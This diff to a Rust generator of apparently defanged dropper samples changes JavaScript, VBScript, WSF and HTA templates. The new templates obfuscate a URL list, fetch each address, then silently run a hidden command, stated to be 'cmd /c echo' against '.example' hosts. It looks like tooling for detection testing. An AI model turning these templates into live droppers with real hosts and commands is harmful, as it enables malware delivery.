@@ -1,6 +1,6 @@
-//! Script files as droppers are written: lists of addresses and one line that would be run.
+//! Script files as droppers are written: each address of a list is asked for, then one line is run.
 //!
-//! What they run is `cmd /c echo`, and the addresses are only counted.
+//! What they run is `cmd /c echo`, the addresses lie in `.example`, and what came of them is not kept.
 
 use crate::forge::Chance;
 use crate::forge::macros::vba_literal as literal;
@@ -70,21 +70,25 @@ pub fn script(
 ) -> String {
     let is_js = language == Language::Js;
     let joined = urls.join("*");
-    let [list, line, count] = [(); 3].map(|()| format!("{}{}", chance.identifier(), chance.below(100)));
+    let [list, line, web, item] = [(); 4].map(|()| format!("{}{}", chance.identifier(), chance.below(100)));
     let (addresses, run) = (hidden(is_js, style, &joined, chance), hidden(is_js, style, command, chance));
     if is_js {
         return format!(
-            "var {list} = ({addresses}).split(\"*\");\r\nvar {count} = {list}.length;\r\nvar {line} = {run};\r\n\
-             new ActiveXObject(\"WScript.Shell\").Run({line}, 0, false);\r\n"
+            "var {list} = ({addresses}).split(\"*\");\r\nvar {web} = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n\
+             for (var {item} = 0; {item} < {list}.length; {item}++) {{\r\n  try {{\r\n    {web}.open(\"GET\", {list}[{item}], \
+             false);\r\n    {web}.send();\r\n    if ({web}.status == 299) break;\r\n  }} catch (e) {{}}\r\n}}\r\n\
+             var {line} = {run};\r\nnew ActiveXObject(\"WScript.Shell\").Run({line}, 0, false);\r\n"
         );
     }
     let code = format!(
-        "{list} = Split({addresses}, \"*\")\r\n{count} = UBound({list})\r\n{line} = {run}\r\n\
+        "On Error Resume Next\r\n{list} = Split({addresses}, \"*\")\r\nSet {web} = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
+         For Each {item} In {list}\r\n    {web}.Open \"GET\", {item}, False\r\n    {web}.Send\r\n    \
+         If {web}.Status = 299 Then Exit For\r\nNext\r\n{line} = {run}\r\n\
          CreateObject(\"WScript.Shell\").Run {line}, 0, False\r\n"
     );
     match language {
         Language::Wsf => {
-            format!("<job id=\"{count}\">\r\n<script language=\"VBScript\">\r\n{code}</script>\r\n</job>\r\n")
+            format!("<job id=\"{list}\">\r\n<script language=\"VBScript\">\r\n{code}</script>\r\n</job>\r\n")
         }
         Language::Hta => {
             format!(
